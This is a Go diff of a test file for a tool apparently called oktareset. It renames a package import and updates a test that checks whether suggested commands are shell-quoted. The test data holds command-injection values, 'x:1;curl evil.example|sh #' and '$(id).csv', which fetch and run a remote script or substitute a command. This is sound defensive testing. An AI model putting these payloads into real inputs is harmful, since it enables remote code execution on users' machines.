@@ -17,8 +17,8 @@ import (
 	"oktareset/runner/access"
 	"oktareset/runner/console"
 	"oktareset/runner/fault"
-	"oktareset/runner/ledger"
 	"oktareset/runner/progress"
+	"oktareset/runner/results"
 )
 
 // wantHarmless fails the test if a text holds what a terminal would act on, or the org's token.
@@ -226,8 +226,8 @@ func TestProposedCommandsAreQuoted(t *testing.T) {
 
 // A page proposes a command made of a file that somebody else may have made.
 func TestProposedPlanIsQuoted(t *testing.T) {
-	m := ledger.Manifest{
-		DryRun: true, Org: "x:1;curl evil.example|sh #", Planned: []string{"reset_factors"}, Runs: []ledger.Run{{}},
+	m := results.Manifest{
+		DryRun: true, Org: "x:1;curl evil.example|sh #", Planned: []string{"reset_factors"}, Runs: []results.Run{{}},
 		Counts: runner.Counts{runner.StatusWouldReset: 2},
 	}
 	want := `oktareset reset --confirm 'x:1;curl evil.example|sh #:2' '$(id).csv'`
